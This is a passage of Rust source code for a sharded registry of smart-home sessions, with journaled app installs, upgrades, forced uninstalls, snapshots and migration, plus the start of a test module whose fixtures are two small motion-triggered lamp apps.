    /// Registers `count` template homes in one journal transaction: the
    /// template state is exported **once** and a single
    /// [`JournalRecord::HomesCreated`] names every assigned id — one
    /// append regardless of batch size, where [`Fleet::create_home`] pays
    /// a state export and an append per home. The fast path for standing
    /// up large fleets.
    ///
    /// # Errors
    ///
    /// As [`Fleet::create_home`] — a [`HgError::Journal`] failure means
    /// every home in the batch exists but none of them is durable.
    pub fn create_homes(&self, count: usize) -> Result<Vec<HomeId>, HgError> {
        if count == 0 {
            return Ok(Vec::new());
        }
        let Some(journal) = self.journal.get() else {
            return Ok((0..count)
                .map(|_| self.place(self.template.clone().build()))
                .collect());
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let state = self.template.clone().build().export_state();
        let ids: Vec<HomeId> = (0..count)
            .map(|_| self.place(self.template.clone().build()))
            .collect();
        if admission == Admission::Journaled {
            journal.append(&JournalRecord::HomesCreated {
                ids: ids.iter().map(|id| id.raw()).collect(),
                state,
            })?;
        }
        Ok(ids)
    }

    /// Registers a new home, customizing the template first (e.g. per-home
    /// modes or handling policies).
    ///
    /// A poisoned shard quarantines its homes (`with_home*` report
    /// [`HgError::Poisoned`]), so placing a *new* home there would hand
    /// back a handle that is unreachable from birth. Consecutive ids route
    /// to consecutive shards, so this burns ids until one routes to a
    /// healthy shard; only when every shard is poisoned does it recover
    /// the routed shard's map (structurally intact, see [`Fleet::len`])
    /// and insert anyway.
    ///
    /// # Errors
    ///
    /// As [`Fleet::create_home`].
    pub fn create_home_with(
        &self,
        customize: impl FnOnce(HomeBuilder) -> HomeBuilder,
    ) -> Result<HomeId, HgError> {
        let home = customize(self.template.clone()).build();
        let Some(journal) = self.journal.get() else {
            return Ok(self.place(home));
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let state = (admission == Admission::Journaled).then(|| home.export_state());
        let id = self.place(home);
        if let Some(state) = state {
            journal.append(&JournalRecord::HomeCreated {
                id: id.raw(),
                state,
            })?;
        }
        Ok(id)
    }

    /// Registers an already-built session under a fresh id (shared by
    /// `create_home_with` and `import_home`), burning ids that route to
    /// poisoned shards as documented on [`Fleet::create_home_with`].
    fn place(&self, mut home: Home) -> HomeId {
        let mut id = HomeId::new(self.next_id.fetch_add(1, Ordering::Relaxed));
        for _ in 0..self.shards.len() {
            match self.shard(id).write() {
                Ok(mut shard) => {
                    self.adopt(&mut home, id);
                    shard.insert(id, home);
                    return id;
                }
                Err(_) => {
                    id = HomeId::new(self.next_id.fetch_add(1, Ordering::Relaxed));
                }
            }
        }
        self.adopt(&mut home, id);
        self.shard(id)
            .write()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
            .insert(id, home);
        id
    }

    /// Wires an incoming session into the fleet's telemetry (when a bus is
    /// attached) under its assigned id, announcing the registration.
    fn adopt(&self, home: &mut Home, id: HomeId) {
        if let Some(bus) = self.telemetry.get() {
            home.set_telemetry(Some(bus.clone()), id.raw());
            bus.publish(TelemetryEvent::HomeCreated { home: id.raw() });
        }
    }

    /// Deregisters a home, dropping its session state.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned; [`HgError::Degraded`] when a quarantined journal
    /// refuses writes (the home stays registered).
    pub fn remove_home(&self, id: HomeId) -> Result<(), HgError> {
        let _gate = self.journal.get().map(|journal| journal.gate());
        let admission = self.admit()?;
        {
            let mut shard = self
                .shard(id)
                .write()
                .map_err(|_| HgError::Poisoned("fleet shard"))?;
            shard.remove(&id).ok_or(HgError::UnknownHome(id))?;
        }
        if let Some(journal) = self.journal.get() {
            if admission == Admission::Journaled {
                journal.append(&JournalRecord::HomeRemoved { id: id.raw() })?;
            }
        }
        Ok(())
    }

    /// The attached journal's admission verdict for one write (trivially
    /// [`Admission::Journaled`] with no journal attached).
    fn admit(&self) -> Result<Admission, HgError> {
        self.journal
            .get()
            .map_or(Ok(Admission::Journaled), |journal| journal.admit())
    }

    /// Runs `f` with shared access to a home (other readers of the same
    /// shard proceed concurrently).
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn with_home<R>(&self, id: HomeId, f: impl FnOnce(&Home) -> R) -> Result<R, HgError> {
        let shard = self
            .shard(id)
            .read()
            .map_err(|_| HgError::Poisoned("fleet shard"))?;
        shard.get(&id).map(f).ok_or(HgError::UnknownHome(id))
    }

    /// Runs `f` with exclusive access to a home. A panic inside `f`
    /// poisons only the owning shard; the rest of the fleet keeps serving,
    /// and operations on the poisoned shard report [`HgError::Poisoned`]
    /// instead of crashing their threads.
    ///
    /// Mutations made directly through this escape hatch **bypass the
    /// write-ahead journal** — use the named lifecycle methods
    /// (`install_app`, `uninstall_app`, `set_handling_policy`, ...) when a
    /// journal is attached.
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn with_home_mut<R>(
        &self,
        id: HomeId,
        f: impl FnOnce(&mut Home) -> R,
    ) -> Result<R, HgError> {
        let mut shard = self
            .shard(id)
            .write()
            .map_err(|_| HgError::Poisoned("fleet shard"))?;
        shard.get_mut(&id).map(f).ok_or(HgError::UnknownHome(id))
    }

    /// [`Home::check_install`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own.
    pub fn check_install(&self, id: HomeId, app: &str) -> Result<InstallReport, HgError> {
        self.with_home(id, |home| home.check_install(app))?
    }

    /// The journal image of a committed install: a state delta, not a
    /// re-runnable command. `rules` is elided when the store's current
    /// rules for the app already match (the overwhelmingly common case —
    /// replay re-derives them from the store), and carried verbatim when
    /// they differ (a confirmed-but-stale report).
    fn install_record(&self, id: HomeId, report: &InstallReport) -> JournalRecord {
        // Elide rules the replay can re-derive from the store; the
        // comparison clones nothing (this runs on every journaled
        // install commit).
        let rules =
            (!self.store.rules_eq(&report.app, &report.rules)).then(|| report.rules.clone());
        JournalRecord::InstallCommitted {
            id: id.raw(),
            app: report.app.clone(),
            replaces: report.replaces.clone(),
            rules,
            threats: report.threats.clone(),
            config: report.config.as_ref().map(ConfigInfo::to_uri),
        }
    }

    /// Runs one install-shaped home operation under the journal gate,
    /// appending a [`JournalRecord::StoreIngested`] when the operation
    /// freshly persisted `(source, name)` into the shared store (even when
    /// the operation itself then failed — the store mutation is real
    /// either way) and a [`JournalRecord::InstallCommitted`] when the
    /// report landed installed.
    fn journaled_install(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        as_name: bool,
        op: impl FnOnce(&mut Home) -> Result<InstallReport, HgError>,
    ) -> Result<InstallReport, HgError> {
        let Some(journal) = self.journal.get() else {
            return self.with_home_mut(id, op)?;
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        if admission == Admission::Unjournaled {
            // Quarantined but serving: apply the mutation, skip the
            // appends (the journal counts the skip).
            return self.with_home_mut(id, op)?;
        }
        // The ingest epoch moves only when a fresh fingerprint persists,
        // so equal reads around the operation prove no store ingest
        // happened — the steady-state path (store app already ingested)
        // skips both source hashes. When the epoch did move, the precise
        // check confirms it was (source, name) that landed; a concurrent
        // ingest of the same pair can at worst journal a duplicate
        // `StoreIngested`, and replayed ingests are idempotent.
        let epoch = self.store.ingest_epoch();
        let outcome = self.with_home_mut(id, op);
        let ingest_append =
            if self.store.ingest_epoch() != epoch && self.store.has_ingested(source, name) {
                journal
                    .append(&JournalRecord::StoreIngested {
                        app: name.to_string(),
                        source: source.to_string(),
                        as_name,
                    })
                    .map(|_| ())
            } else {
                Ok(())
            };
        // The operation's own error outranks a journal append failure.
        let report = outcome??;
        ingest_append?;
        if report.installed {
            journal.append(&self.install_record(id, &report))?;
        }
        Ok(report)
    }

    /// [`Home::install_app`] through the registry: extract (served from
    /// the shared cache), check, auto-confirm only when clean.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own; [`HgError::Journal`] when
    /// the commit could not be journaled (state applied, durability
    /// lapsed).
    pub fn install_app(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.journaled_install(id, source, name, false, |home| {
            home.install_app(source, name, config)
        })
    }

    /// [`Home::install_app_forced`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own; [`HgError::Journal`] as on
    /// [`Fleet::install_app`].
    pub fn install_app_forced(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.journaled_install(id, source, name, false, |home| {
            home.install_app_forced(source, name, config)
        })
    }

    /// [`Home::confirm_install`] through the registry: the user of `id`
    /// accepted a dirty install or upgrade report.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own staleness checks;
    /// [`HgError::Journal`] as on [`Fleet::install_app`].
    pub fn confirm_install(
        &self,
        id: HomeId,
        report: InstallReport,
    ) -> Result<InstallReport, HgError> {
        let Some(journal) = self.journal.get() else {
            return self.with_home_mut(id, |home| home.confirm_install(report))?;
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let confirmed = self.with_home_mut(id, |home| home.confirm_install(report))??;
        if admission == Admission::Journaled {
            journal.append(&self.install_record(id, &confirmed))?;
        }
        Ok(confirmed)
    }

    /// [`Home::uninstall_app`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own; [`HgError::Journal`] as on
    /// [`Fleet::install_app`].
    pub fn uninstall_app(&self, id: HomeId, app: &str) -> Result<UninstallReport, HgError> {
        let Some(journal) = self.journal.get() else {
            return self.with_home_mut(id, |home| home.uninstall_app(app))?;
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let report = self.with_home_mut(id, |home| home.uninstall_app(app))??;
        if admission == Admission::Journaled {
            journal.append(&JournalRecord::UninstallCommitted {
                id: id.raw(),
                app: app.to_string(),
            })?;
        }
        Ok(report)
    }

    /// [`Home::upgrade_app`] through the registry.
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own; [`HgError::Journal`] as on
    /// [`Fleet::install_app`].
    pub fn upgrade_app(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.journaled_install(id, source, name, true, |home| {
            home.upgrade_app(source, name, config)
        })
    }

    /// Installs an already-ingested app into each listed home in order
    /// (auto-confirming where clean, exactly like [`Fleet::install_app`]),
    /// reporting per-home outcomes so one home's verdict cannot abort the
    /// group. This is the per-group unit a work-queue dispatcher hands to
    /// a shard worker after partitioning the request by [`Fleet::shard_of`]
    /// — ids sharing a shard keep their request-relative order, so a
    /// partitioned dispatch reassembles to exactly the serial outcome.
    ///
    /// Unlike [`Fleet::install_many`] this does **not** pre-ingest: the
    /// caller ingests once for the whole request, not once per group.
    ///
    /// When a journal is attached the group commits under **one** gate
    /// hold and journals **one** [`JournalRecord::InstallSwept`] naming
    /// every home whose clean install auto-confirmed — batch durability at
    /// one append per group instead of one per home. Homes whose reports
    /// cannot ride the batch (an upgrade, a diverging app name or config,
    /// or rules the store has since moved away from) fall back to their
    /// own [`JournalRecord::InstallCommitted`]. A failed append surfaces
    /// as [`HgError::Journal`] on every outcome that committed home state
    /// in this group — state applied, durability lapsed, exactly like
    /// [`Fleet::install_app`].
    pub fn install_group(
        &self,
        home_ids: &[HomeId],
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> BulkOutcomes {
        let Some(journal) = self.journal.get() else {
            return home_ids
                .iter()
                .map(|&id| (id, self.plain_install(id, source, name, config)))
                .collect();
        };
        let _gate = journal.gate();
        let admission = match journal.admit() {
            Ok(admission) => admission,
            // Refused up front: no home in the group was touched, every
            // outcome reports the same retryable degradation.
            Err(error) => {
                let detail = error.to_string();
                return home_ids
                    .iter()
                    .map(|&id| (id, Err(HgError::Degraded(detail.clone()))))
                    .collect();
            }
        };
        if admission == Admission::Unjournaled {
            return home_ids
                .iter()
                .map(|&id| (id, self.plain_install(id, source, name, config)))
                .collect();
        }
        let epoch = self.store.ingest_epoch();
        let mut outcomes: BulkOutcomes = home_ids
            .iter()
            .map(|&id| (id, self.plain_install(id, source, name, config)))
            .collect();
        // One epoch read covers the whole group: unchanged means no store
        // ingest landed anywhere during it, so every report's rules came
        // from the store's stable analysis of `name` and the batch record
        // can elide them wholesale. A moved epoch demotes each home to the
        // precise per-report rule comparison.
        let store_stable = self.store.ingest_epoch() == epoch;
        let mut appends: Result<(), HgError> =
            if !store_stable && self.store.has_ingested(source, name) {
                journal
                    .append(&JournalRecord::StoreIngested {
                        app: name.to_string(),
                        source: source.to_string(),
                        as_name: false,
                    })
                    .map(|_| ())
            } else {
                Ok(())
            };
        let mut swept: Vec<u64> = Vec::new();
        for (id, outcome) in &outcomes {
            let Ok(report) = outcome else { continue };
            if !report.installed || appends.is_err() {
                continue;
            }
            let batchable = report.app == name
                && report.replaces.is_none()
                && report.threats.is_empty()
                && report.chains.is_empty()
                && report.config.as_ref() == config
                && (store_stable || self.store.rules_eq(&report.app, &report.rules));
            if batchable {
                swept.push(id.raw());
            } else {
                appends = journal
                    .append(&self.install_record(*id, report))
                    .map(|_| ());
            }
        }
        if appends.is_ok() && !swept.is_empty() {
            appends = journal
                .append(&JournalRecord::InstallSwept {
                    app: name.to_string(),
                    homes: swept,
                    config: config.map(ConfigInfo::to_uri),
                })
                .map(|_| ());
        }
        if let Err(e) = appends {
            // Every install that committed home state in this group now has
            // unjournaled state; report the durability lapse on each.
            let detail = e.to_string();
            for (_, outcome) in outcomes.iter_mut() {
                if matches!(outcome, Ok(report) if report.installed) {
                    *outcome = Err(HgError::Journal(detail.clone()));
                }
            }
        }
        outcomes
    }

    /// The registry install operation without journal bookkeeping — the
    /// per-home body [`Fleet::install_group`] runs under its single gate
    /// hold.
    fn plain_install(
        &self,
        id: HomeId,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, HgError> {
        self.with_home_mut(id, |home| home.install_app(source, name, config))?
    }

    /// Bulk install: extracts `source` **once** and installs it into every
    /// listed home (auto-confirming where clean, exactly like
    /// [`Fleet::install_app`]). Per-home outcomes are reported
    /// individually, in request order, so one home's verdict cannot abort
    /// the sweep.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] when the source fails extraction — nothing is
    /// installed anywhere in that case.
    pub fn install_many(
        &self,
        home_ids: &[HomeId],
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<BulkOutcomes, HgError> {
        self.ingest_app(source, name)?;
        Ok(self.install_group(home_ids, source, name, config))
    }

    /// Publishes `source` into the shared store under its declared name
    /// (journaled when a journal is attached) without installing it
    /// anywhere — the coordinator-side half of a partitioned
    /// [`Fleet::install_many`].
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] when the source fails extraction;
    /// [`HgError::Journal`] when a fresh ingest could not be journaled.
    pub fn ingest_app(&self, source: &str, name: &str) -> Result<(), HgError> {
        self.journaled_ingest(source, name, false)
    }

    /// [`Fleet::ingest_app`] via [`RuleStore::ingest_as`]: refuses a
    /// renaming submission before anything lands in the store — the
    /// upgrade-rollout publication step.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`]; [`HgError::UpgradeRenames`];
    /// [`HgError::Journal`] as on [`Fleet::ingest_app`].
    pub fn ingest_app_as(&self, source: &str, name: &str) -> Result<(), HgError> {
        self.journaled_ingest(source, name, true)
    }

    fn journaled_ingest(&self, source: &str, name: &str, as_name: bool) -> Result<(), HgError> {
        let Some(journal) = self.journal.get() else {
            return if as_name {
                self.store.ingest_as(source, name).map(|_| ())
            } else {
                self.store.ingest(source, name).map(|_| ())
            };
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let fresh = !self.store.has_ingested(source, name);
        let outcome = if as_name {
            self.store.ingest_as(source, name).map(|_| ())
        } else {
            self.store.ingest(source, name).map(|_| ())
        };
        let landed = fresh && self.store.has_ingested(source, name);
        outcome?;
        if landed && admission == Admission::Journaled {
            journal.append(&JournalRecord::StoreIngested {
                app: name.to_string(),
                source: source.to_string(),
                as_name,
            })?;
        }
        Ok(())
    }

    /// Fleet-wide upgrade rollout: re-extracts the new source **once**
    /// (publishing v2 to the shared store, as a store update would), then
    /// incrementally re-checks every home that has the app installed.
    /// Clean homes are upgraded in place; homes where the new version
    /// interferes keep the old version running and their dirty report is
    /// returned for per-home confirmation. The sweep never aborts midway:
    /// per-home failures and poisoned shards are reported in the rollout
    /// so no already-upgraded or still-pending home is lost track of.
    ///
    /// # Errors
    ///
    /// [`HgError::Extract`] when the new source fails extraction;
    /// [`HgError::UpgradeRenames`] when it declares a different app name.
    /// Either way no home is touched.
    pub fn propagate_upgrade(&self, source: &str, name: &str) -> Result<UpgradeRollout, HgError> {
        // `ingest_as`, not `ingest`: a renaming submission must be refused
        // BEFORE anything lands in the shared database — a rejected
        // rollout cannot publish a new app store-wide as a side effect.
        self.ingest_app_as(source, name)?;
        Ok(UpgradeRollout::merge(
            name,
            (0..self.shards.len()).map(|index| self.upgrade_shard(index, source, name)),
        ))
    }

    /// One shard's slice of a [`Fleet::propagate_upgrade`] sweep: upgrades
    /// the app in every home of shard `index` that runs it, under that
    /// shard's write lock. A poisoned shard is reported, never unwrapped;
    /// homes are visited in ascending `HomeId` order (the `BTreeMap`
    /// order). The caller is responsible for having published the new
    /// source first (`ingest_as`, once per rollout) and for combining the
    /// parts with [`UpgradeRollout::merge`].
    ///
    /// # Panics
    ///
    /// If `index` is out of range (`>= self.shard_count()`).
    pub fn upgrade_shard(&self, index: usize, source: &str, name: &str) -> ShardRollout {
        let _gate = self.journal.get().map(|journal| journal.gate());
        // Refused before any home is touched: the whole shard unit can be
        // retried verbatim after the journal heals.
        let Ok(admission) = self.admit() else {
            return ShardRollout {
                refused: true,
                ..ShardRollout::default()
            };
        };
        let started = self.telemetry.get().map(|_| Instant::now());
        let Ok(mut shard) = self.shards[index].write() else {
            return ShardRollout {
                poisoned: true,
                ..ShardRollout::default()
            };
        };
        let mut part = ShardRollout::default();
        for (&id, home) in shard.iter_mut() {
            if !home.is_installed(name) {
                part.skipped += 1;
                continue;
            }
            match home.upgrade_app(source, name, None) {
                Ok(report) if report.installed => part.upgraded.push(id),
                Ok(report) => part.pending.push((id, report)),
                Err(error) => part.failed.push((id, error)),
            }
        }
        let homes = shard.len() as u64;
        drop(shard);
        if let Some(journal) = self.journal.get() {
            if admission == Admission::Journaled && !part.upgraded.is_empty() {
                // One compact record per shard unit, not one per home: the
                // clean-upgrade outcome is fully re-derivable from the
                // store's (already journaled) new version.
                if let Err(error) = journal.append(&JournalRecord::UpgradeSwept {
                    app: name.to_string(),
                    homes: part.upgraded.iter().map(|id| id.raw()).collect(),
                }) {
                    // The sweep's signature is infallible (per-home work is
                    // done and must be reported), so the lapse rides the
                    // part instead of vanishing.
                    part.journal_lapsed = Some(error.to_string());
                }
            }
        }
        self.publish_sweep(index, "upgrade", homes, started);
        part
    }

    /// One shard's slice of a [`Fleet::force_uninstall`] sweep: retracts
    /// the app from every home of shard `index` that runs it, under that
    /// shard's write lock (poisoned shards reported, ascending `HomeId`
    /// order — see [`Fleet::upgrade_shard`]). Combine the parts with
    /// [`ForceUninstall::merge`]; the store-level purge is the caller's.
    ///
    /// # Panics
    ///
    /// If `index` is out of range (`>= self.shard_count()`).
    pub fn uninstall_shard(&self, index: usize, app: &str) -> ShardUninstall {
        let _gate = self.journal.get().map(|journal| journal.gate());
        let Ok(admission) = self.admit() else {
            return ShardUninstall {
                refused: true,
                ..ShardUninstall::default()
            };
        };
        let started = self.telemetry.get().map(|_| Instant::now());
        let Ok(mut shard) = self.shards[index].write() else {
            return ShardUninstall {
                poisoned: true,
                ..ShardUninstall::default()
            };
        };
        let mut part = ShardUninstall::default();
        for (&id, home) in shard.iter_mut() {
            if !home.is_installed(app) {
                part.skipped += 1;
                continue;
            }
            match home.uninstall_app(app) {
                Ok(report) => part.removed.push((id, report)),
                Err(error) => part.failed.push((id, error)),
            }
        }
        let homes = shard.len() as u64;
        drop(shard);
        if let Some(journal) = self.journal.get() {
            if admission == Admission::Journaled && !part.removed.is_empty() {
                if let Err(error) = journal.append(&JournalRecord::UninstallSwept {
                    app: app.to_string(),
                    homes: part.removed.iter().map(|(id, _)| id.raw()).collect(),
                }) {
                    part.journal_lapsed = Some(error.to_string());
                }
            }
        }
        self.publish_sweep(index, "uninstall", homes, started);
        part
    }

    /// Publishes one shard sweep unit's completion (no-op without a bus).
    fn publish_sweep(&self, index: usize, op: &'static str, homes: u64, started: Option<Instant>) {
        if let Some(bus) = self.telemetry.get() {
            bus.publish(TelemetryEvent::SweepShardDone {
                shard: index as u64,
                op,
                homes,
                micros: started.map_or(0, |t| t.elapsed().as_micros() as u64),
            });
        }
    }

    /// Fleet-wide forced uninstall: a store-pulled (e.g. discovered-
    /// malicious) app is retracted from **every** home running it — rules
    /// unposted, Allowed threats and mediation points retired, `Priority`
    /// ranks dropped, exactly the per-home retraction
    /// [`Fleet::uninstall_app`] performs — and then retired from the
    /// shared store database itself, fingerprints included, so neither a
    /// query nor an ingest cache hit can resurrect it. The sweep never
    /// aborts midway; per-home failures and poisoned shards are reported.
    pub fn force_uninstall(&self, app: &str) -> ForceUninstall {
        let mut out = ForceUninstall::merge(
            app,
            (0..self.shards.len()).map(|index| self.uninstall_shard(index, app)),
        );
        match self.retire_store_app(app) {
            Ok(retired) => out.store_retired = retired,
            Err(error) => out.store_error = Some(error.to_string()),
        }
        out
    }

    /// Retires `app` from the shared store (database, analyses,
    /// fingerprints — see [`RuleStore::retire_app`]), journaled when a
    /// journal is attached. Returns whether the store actually held it.
    ///
    /// # Errors
    ///
    /// [`HgError::Degraded`] when a quarantined journal refuses writes
    /// (the store is untouched); [`HgError::Journal`] when the retirement
    /// could not be journaled (the store **did** retire the app — a
    /// recovery before the next checkpoint resurrects it).
    pub fn retire_store_app(&self, app: &str) -> Result<bool, HgError> {
        let Some(journal) = self.journal.get() else {
            return Ok(self.store.retire_app(app));
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let retired = self.store.retire_app(app);
        if retired && admission == Admission::Journaled {
            journal.append(&JournalRecord::StoreRetired {
                app: app.to_string(),
            })?;
        }
        Ok(retired)
    }

    /// Replaces one home's threat-handling policy table (journaled when a
    /// journal is attached).
    ///
    /// # Errors
    ///
    /// Registry errors; [`HgError::Journal`] when the change could not be
    /// journaled.
    pub fn set_handling_policy(&self, id: HomeId, table: PolicyTable) -> Result<(), HgError> {
        let Some(journal) = self.journal.get() else {
            return self.with_home_mut(id, |home| home.set_handling_policy(table));
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let record = (admission == Admission::Journaled).then(|| JournalRecord::PolicyChanged {
            id: id.raw(),
            table: table.clone(),
        });
        self.with_home_mut(id, |home| home.set_handling_policy(table))?;
        if let Some(record) = record {
            journal.append(&record)?;
        }
        Ok(())
    }

    /// Records (or replaces) one home's collected configuration for an
    /// installed app (journaled when a journal is attached).
    ///
    /// # Errors
    ///
    /// Registry errors plus the session's own; [`HgError::Journal`] when
    /// the change could not be journaled.
    pub fn record_config(&self, id: HomeId, info: &ConfigInfo) -> Result<(), HgError> {
        let Some(journal) = self.journal.get() else {
            return self.with_home_mut(id, |home| home.record_config(info));
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        self.with_home_mut(id, |home| home.record_config(info))?;
        if admission == Admission::Journaled {
            journal.append(&JournalRecord::ConfigRecorded {
                id: id.raw(),
                uri: info.to_uri(),
            })?;
        }
        Ok(())
    }

    /// Re-seats a home under a **specific** id — the journal replay path
    /// ([`Fleet::recover`]), where ids must come back exactly as recorded.
    /// Bumps the id counter past `id` so future ids never collide.
    pub(crate) fn insert_home_at(&self, id: HomeId, state: HomeState) -> Result<(), HgError> {
        let mut home = Home::restore_state(self.store.clone(), state);
        if let Some(bus) = self.telemetry.get() {
            home.set_telemetry(Some(bus.clone()), id.raw());
        }
        let mut shard = self
            .shard(id)
            .write()
            .map_err(|_| HgError::Poisoned("fleet shard"))?;
        if shard.contains_key(&id) {
            return Err(journal_err(format!("replay would overwrite live {id}")));
        }
        shard.insert(id, home);
        drop(shard);
        self.next_id.fetch_max(id.raw() + 1, Ordering::Relaxed);
        Ok(())
    }

    /// Captures the whole service — the shared store (database, analyses,
    /// ingest fingerprints), every home's session state, and the
    /// registry's routing parameters — as one consistent
    /// [`FleetSnapshot`]. Serialize it with
    /// [`FleetSnapshot::to_text`] and revive it with [`Fleet::restore`].
    ///
    /// Shards are captured one at a time under their read locks, so
    /// concurrent traffic on other shards proceeds; each home's state is
    /// internally consistent because its shard lock is held while it is
    /// exported.
    ///
    /// # Errors
    ///
    /// [`HgError::Poisoned`] when any shard lock is poisoned: a
    /// quarantined home's state cannot be trusted, and silently snapshotting
    /// around it would persist a fleet that claims to be whole.
    pub fn snapshot(&self) -> Result<FleetSnapshot, HgError> {
        let started = self.telemetry.get().map(|_| Instant::now());
        let mut homes = Vec::new();
        for shard in &self.shards {
            let shard = shard.read().map_err(|_| HgError::Poisoned("fleet shard"))?;
            for (&id, home) in shard.iter() {
                homes.push((id, home.export_state()));
            }
        }
        homes.sort_by_key(|(id, _)| *id);
        let snapshot = FleetSnapshot {
            shards: self.shards.len(),
            next_id: self.next_id.load(Ordering::Relaxed),
            store: self.store.export_state(),
            homes,
            // Ground truth only: observability aggregates are injected by
            // the serving layer (`hg-api`) at persist time, keeping this
            // document bit-identical with or without a bus attached.
            telemetry: None,
        };
        if let Some(bus) = self.telemetry.get() {
            bus.publish(TelemetryEvent::SnapshotTaken {
                homes: snapshot.homes.len() as u64,
                micros: started.map_or(0, |t| t.elapsed().as_micros() as u64),
            });
        }
        Ok(snapshot)
    }

    /// Revives a fleet from a snapshot — the warm-restart path. The store
    /// comes back with its ingest cache live, every home is rebuilt from
    /// its ground truth (derived state — detection postings, mediation
    /// points, enforcers — is reconstructed, never deserialized), shard
    /// routing and the id counter are preserved so existing [`HomeId`]
    /// handles stay valid and future ids never collide. The home template
    /// for *future* [`Fleet::create_home`] calls resets to deployment
    /// defaults; use [`Fleet::restore_with`] to customize it.
    ///
    /// # Errors
    ///
    /// [`HgError::Snapshot`] when the snapshot's ids exceed its own
    /// `next_id` counter (a forged or corrupted document).
    pub fn restore(snapshot: FleetSnapshot) -> Result<Fleet, HgError> {
        Fleet::restore_with(snapshot, |builder| builder)
    }

    /// [`Fleet::restore`] with a customized template for homes created
    /// after the restart (the restored homes carry their own state and are
    /// not affected).
    ///
    /// # Errors
    ///
    /// As [`Fleet::restore`].
    pub fn restore_with(
        snapshot: FleetSnapshot,
        customize: impl FnOnce(HomeBuilder) -> HomeBuilder,
    ) -> Result<Fleet, HgError> {
        if let Some((id, _)) = snapshot
            .homes
            .iter()
            .find(|(id, _)| id.raw() >= snapshot.next_id)
        {
            return Err(HgError::Snapshot(format!(
                "{id} is not covered by the snapshot's id counter {}",
                snapshot.next_id
            )));
        }
        let store = Arc::new(RuleStore::restore_state(snapshot.store));
        let fleet = Fleet::builder(store.clone())
            .shards(snapshot.shards)
            .home_defaults(customize)
            .build();
        fleet.next_id.store(snapshot.next_id, Ordering::Relaxed);
        for (id, state) in snapshot.homes {
            let home = Home::restore_state(store.clone(), state);
            fleet
                .shard(id)
                .write()
                .unwrap_or_else(std::sync::PoisonError::into_inner)
                .insert(id, home);
        }
        Ok(fleet)
    }

    /// Exports one home's session state — the migration unit. Serialize it
    /// with [`hg_persist::home_to_text`] and hand it to another process's
    /// [`Fleet::import_home`].
    ///
    /// # Errors
    ///
    /// [`HgError::UnknownHome`]; [`HgError::Poisoned`] when the shard lock
    /// is poisoned.
    pub fn export_home(&self, id: HomeId) -> Result<HomeState, HgError> {
        self.with_home(id, |home| home.export_state())
    }

    /// Imports a migrated home under a **fresh** id in this fleet (ids are
    /// process-local routing keys, not global identities). The session is
    /// rebuilt against this fleet's shared store; its installed rules are
    /// self-contained, so the home works even before the store has
    /// ingested the apps it runs.
    ///
    /// # Errors
    ///
    /// [`HgError::Degraded`] when a quarantined journal refuses writes
    /// (nothing is imported); [`HgError::Journal`] when the import could
    /// not be journaled (the home **is** registered, durability lapsed).
    pub fn import_home(&self, state: HomeState) -> Result<HomeId, HgError> {
        let Some(journal) = self.journal.get() else {
            return Ok(self.place(Home::restore_state(self.store.clone(), state)));
        };
        let _gate = journal.gate();
        let admission = journal.admit()?;
        let record_state = (admission == Admission::Journaled).then(|| state.clone());
        let id = self.place(Home::restore_state(self.store.clone(), state));
        if let Some(state) = record_state {
            journal.append(&JournalRecord::HomeImported {
                id: id.raw(),
                state,
            })?;
        }
        Ok(id)
    }

    /// How many shard locks are currently poisoned — homes behind them
    /// answer [`HgError::Poisoned`] instead of serving. The health-probe
    /// signal (`GET /health` in `hg-api`).
    pub fn poisoned_shards(&self) -> usize {
        self.shards.iter().filter(|s| s.is_poisoned()).count()
    }
}

// The whole point of the sharded design: a Fleet handle is freely
// shareable across threads.
const _: () = {
    const fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Fleet>();
};

#[cfg(test)]
mod tests {
    use super::*;
    use hg_detector::ThreatKind;

    const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

    #[test]
    fn create_route_and_remove_homes() {
        let fleet = Fleet::builder(RuleStore::shared()).shards(4).build();
        let ids: Vec<HomeId> = (0..10).map(|_| fleet.create_home().unwrap()).collect();
